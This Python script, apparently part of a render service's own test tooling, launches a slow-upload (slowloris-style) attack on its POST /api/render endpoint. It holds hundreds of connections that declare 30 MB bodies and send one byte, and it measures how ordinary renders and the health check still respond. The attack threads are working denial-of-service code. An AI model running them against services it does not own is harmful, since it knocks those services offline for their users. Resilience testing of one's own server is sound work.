#!/usr/bin/env python3
"""The slow-upload attack, and what the service still answers meanwhile.

ATTACKERS connections each declare a 30 MB body to POST /api/render, send one byte, then hold the
connection, reconnecting as soon as the server drops it. Meanwhile RENDERS small renders are sent
one after another, and the health endpoint is asked about every half second. Prints the share of
small renders answered 200 within 2 s, their statuses and latencies, and health's latencies.

    python3 scripts/slow-upload-attack.py [--url http://localhost:8080] [--attackers 250]
        [--renders 60] [--clients 2] [--duration 30] [--key KEY]
"""
import argparse
import http.client
import socket
import statistics
import threading
import time
import urllib.parse

SMALL = b'{"image": {"width": 32, "height": 24}, "objects": [{"type": "sphere"}]}'


def attacker(host, port, stop, connected, key):
    head = ("POST /api/render HTTP/1.1\r\nHost: %s:%d\r\nContent-Type: application/json\r\n"
            "Content-Length: 30000000\r\n%s\r\n" % (host, port, "Authorization: Bearer %s\r\n" % key if key else ""))
    while not stop.is_set():
        try:
            with socket.create_connection((host, port), timeout=5) as s:
                s.sendall(head.encode() + b"{")
                connected[0] += 1
                s.settimeout(1.0)
                while not stop.is_set():
                    try:
                        if not s.recv(4096):
                            break  # dropped: reconnect
                    except socket.timeout:
                        continue
        except OSError:
            time.sleep(0.05)


seen = set()


def timed(host, port, method, path, body, key, timeout):
    start = time.monotonic()
    try:
        c = http.client.HTTPConnection(host, port, timeout=timeout)
        headers = {"Content-Type": "application/json"} if body else {}
        if key:
            headers["Authorization"] = "Bearer " + key
        c.request(method, path, body=body, headers=headers)
        r = c.getresponse()
        body = r.read()
        c.close()
        if r.status != 200 and r.status not in seen:
            seen.add(r.status)
            print("first %d: %s" % (r.status, body[:300].decode("utf-8", "replace")))
        return r.status, time.monotonic() - start
    except OSError:
        return None, time.monotonic() - start


def p95(values):
    s = sorted(values)
    return s[min(len(s) - 1, int(0.95 * len(s)))]


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--url", default="http://localhost:8080")
    ap.add_argument("--attackers", type=int, default=250)
    ap.add_argument("--renders", type=int, default=60)
    ap.add_argument("--clients", type=int, default=2, help="small renders at once")
    ap.add_argument("--duration", type=float, default=30.0, help="seconds over which the renders are spread")
    ap.add_argument("--warmup", type=float, default=5.0, help="seconds of attack before the renders start")
    ap.add_argument("--key", default=None, help="an API key, when sign-in is on")
    a = ap.parse_args()
    u = urllib.parse.urlparse(a.url)
    host, port = u.hostname, u.port or 80
    stop, connected = threading.Event(), [0]
    threads = [threading.Thread(target=attacker, args=(host, port, stop, connected, a.key), daemon=True)
               for _ in range(a.attackers)]
    for t in threads:
        t.start()
    time.sleep(a.warmup)
    health = []

    def ask_health():
        while not stop.is_set():
            health.append(timed(host, port, "GET", "/actuator/health", None, a.key, 15))
            time.sleep(0.5)

    h = threading.Thread(target=ask_health, daemon=True)
    h.start()
    # a few clients render one after another each (no more than the renders the server runs at once,
    # studio.concurrent-renders, 2 by default, so that none is refused for that)
    from concurrent.futures import ThreadPoolExecutor
    pace = a.duration * a.clients / a.renders  # the renders spread over the run

    def render(_):
        time.sleep(pace)
        return timed(host, port, "POST", "/api/render", SMALL, a.key, 15)

    with ThreadPoolExecutor(a.clients) as pool:
        renders = list(pool.map(render, range(a.renders)))
    stop.set()
    h.join(16)
    ok = [t for s, t in renders if s == 200 and t <= 2.0]
    statuses = {}
    for s, _ in renders:
        statuses[s] = statuses.get(s, 0) + 1
    times = [t for _, t in renders]
    htimes = [t for _, t in health]
    print("attack connections made: %d" % connected[0])
    print("small renders: %d/%d answered 200 within 2 s (%.0f%%); statuses %s" % (
        len(ok), len(renders), 100.0 * len(ok) / len(renders), statuses))
    print("  latency median %.3f s, p95 %.3f s, max %.3f s" % (statistics.median(times), p95(times), max(times)))
    print("health: %d asked, %d answered 200; median %.3f s, p95 %.3f s, max %.3f s" % (
        len(health), sum(1 for s, _ in health if s == 200), statistics.median(htimes), p95(htimes), max(htimes)))


if __name__ == "__main__":
    main()
